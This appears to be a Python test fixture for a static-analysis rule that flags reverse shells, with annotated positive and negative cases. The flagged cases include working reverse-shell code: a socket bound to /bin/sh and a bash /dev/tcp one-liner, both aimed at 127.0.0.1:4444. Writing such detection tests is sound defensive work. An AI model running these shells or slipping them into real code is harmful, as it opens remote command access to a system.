import os
import pty
import socket
import subprocess


def connect_back():
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.connect(("127.0.0.1", 4444))
    # ruleid: reverse-shell
    subprocess.call(["/bin/sh", "-i"], stdin=s.fileno(), stdout=s.fileno(), stderr=s.fileno())


def connect_back_shell():
    # ruleid: reverse-shell
    os.system("bash -c 'bash -i >& /dev/tcp/127.0.0.1/4444 0>&1'")


def spawn_tty():
    # ruleid: reverse-shell
    pty.spawn("/bin/bash")


def run_build_script():
    # ok: reverse-shell
    subprocess.run(["/bin/sh", "-c", "make all"], stdout=subprocess.PIPE)


def interactive_shell():
    # the user's own shell on a pty, as terminal tools do
    # ok: reverse-shell
    pty.spawn(os.environ["SHELL"])


def check_port(host, port):
    # ok: reverse-shell
    return subprocess.run(["nc", "-z", host, str(port)]).returncode == 0
